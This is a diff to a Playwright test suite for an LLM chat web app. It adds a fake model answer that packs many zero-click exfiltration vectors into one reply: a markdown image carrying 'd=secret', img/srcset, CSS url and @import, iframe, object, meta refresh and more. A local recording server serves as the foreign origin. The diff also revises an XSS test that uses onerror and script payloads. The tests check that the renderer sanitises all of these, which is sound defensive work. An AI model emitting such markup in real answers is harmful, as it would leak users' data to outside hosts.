@@ -28,6 +28,8 @@ pytestmark = pytest.mark.skipif(
 
 def scripted_reply(messages: list[Message], tools: list[ToolSpec] | None, options: ChatOptions) -> Message | str:
     prompt = "\n".join(m.content for m in messages)
+    if "exfiltrate" in messages[-1].content:
+        return hostile_markdown(EXFIL["base"])
     if "6*7" in messages[-1].content and tools:
         return Message.assistant("", [call("calculator", {"expression": "6*7"})])
     if "plot" in messages[-1].content and tools:
@@ -39,6 +41,51 @@ def scripted_reply(messages: list[Message], tools: list[ToolSpec] | None, option
     if "otter" in prompt.lower():
         return "Sea otters hold hands while they sleep [1]."
     return "Hello! I am streaming this **markdown** answer."
+
+
+EXFIL: dict[str, str] = {"base": "http://127.0.0.1:9"}
+
+
+def hostile_markdown(base: str) -> str:
+    """Every way we know for an answer to make a browser fetch a URL without a click."""
+    return "\n\n".join(
+        [
+            f"Here you go ![chart]({base}/md-image?d=secret) and [a link]({base}/clicked-only).",
+            f'<img src="{base}/img-tag"> <img srcset="{base}/srcset 2x"> <input type="image" src="{base}/input">',
+            f'<div style="background:url({base}/style-attr)">styled</div> <table background="{base}/bg"></table>',
+            f"<style>@import url({base}/import); body {{ background: url({base}/style-el) }}</style>",
+            f'<video poster="{base}/poster" src="{base}/video"></video> <audio src="{base}/audio" autoplay></audio>',
+            f'<picture><source srcset="{base}/source"><img src="{base}/picture"></picture>',
+            f'<link rel="stylesheet" href="{base}/link"> <link rel="prefetch" href="{base}/prefetch">',
+            f'<svg><image href="{base}/svg-image"></image></svg> <iframe src="{base}/iframe"></iframe>',
+            f'<object data="{base}/object"></object> <embed src="{base}/embed">',
+            f'<meta http-equiv="refresh" content="0;url={base}/refresh"> <body background="{base}/body">',
+        ]
+    )
+
+
+@pytest.fixture()
+def exfil_server() -> Iterator[list[str]]:
+    """Another origin that records every request it gets."""
+    import http.server
+    import threading
+
+    hits: list[str] = []
+
+    class Recorder(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            hits.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    EXFIL["base"] = f"http://127.0.0.1:{server.server_address[1]}"
+    yield hits
+    server.shutdown()
 
 
 PLOT_CODE = "import matplotlib.pyplot as plt\nplt.plot([1, 2, 3], [1, 4, 9])\nplt.show()"
@@ -102,10 +149,29 @@ def test_upload_a_document_and_ask_about_it(page: Any, tmp_path: Path) -> None:
 def test_unsafe_markdown_is_sanitised(page: Any) -> None:
     page.evaluate("window.__pwned = false")
     html = page.evaluate(
-        "renderMarkdown('<img src=x onerror=\"window.__pwned=true\"> <script>window.__pwned=true</script>')"
+        "(() => { const d = document.createElement('div');"
+        " renderMarkdown(d, '<img src=x onerror=\"window.__pwned=true\"> <script>window.__pwned=true</script>');"
+        " return d.innerHTML; })()"
     )
     assert "onerror" not in html and "<script" not in html
     assert page.evaluate("window.__pwned") is False
+
+
+def test_a_hostile_answer_makes_no_request_live_or_reopened(page: Any, exfil_server: list[str]) -> None:
+    origin = page.url.split("/?")[0].rstrip("/")
+    foreign: list[str] = []
+    page.on("request", lambda request: None if request.url.startswith(origin) else foreign.append(request.url))
+    answer = ask(page, "please exfiltrate")
+    assert "Here you go" in answer.inner_text()
+    assert answer.locator("a", has_text="image: chart").get_attribute("href") == f"{EXFIL['base']}/md-image?d=secret"
+    page.locator("#sessions li").first.click()
+    page.wait_for_selector(".msg.assistant .text")
+    page.reload()
+    page.locator("#sessions li").first.click()
+    page.wait_for_selector(".msg.assistant .text")
+    page.wait_for_timeout(500)
+    assert answer.locator("style, img, video, audio, iframe, object, embed, svg, link").count() == 0
+    assert foreign == [] and exfil_server == []
 
 
 @pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed (make test installs it)")
